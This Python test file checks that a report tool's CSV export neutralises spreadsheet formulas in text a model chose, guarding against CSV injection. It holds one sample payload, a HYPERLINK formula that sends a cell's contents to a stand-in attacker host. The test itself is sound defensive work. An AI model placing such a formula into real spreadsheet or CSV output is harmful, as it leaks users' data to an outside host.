"""`report --format csv --candidates` puts text a model chose into cells: in the agent strategy a candidate's
feature is the path the model wrote it to. A cell that starts with = + - @ (or a tab/CR before one) is a
formula to a spreadsheet that opens the CSV (CSV injection): the model's text must stay text there."""

from __future__ import annotations

import csv
import io

from kernelpilot.agent import html_report
from kernelpilot.sandbox.result import fail

FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"click for the kernel").py'


def test_csv_cells_from_the_model_are_not_formulas(store):
    run_id = store.new_run("optimize", {"llm": {"model": "scripted"}, "search": {"strategy": "agent"}}, ["softmax"])
    store.start_task(run_id, "softmax")
    store.save_candidate(run_id, "softmax", "s0", "x", {"path": FORMULA},
                         fail("static", "static.no_kernel", "no kernel found"))
    data = [html_report.collect(store, store.get_run(run_id))]
    text = html_report.as_csv(html_report.tables(data)["candidates"])
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not bad, f"cells a spreadsheet runs as formulas: {bad}"
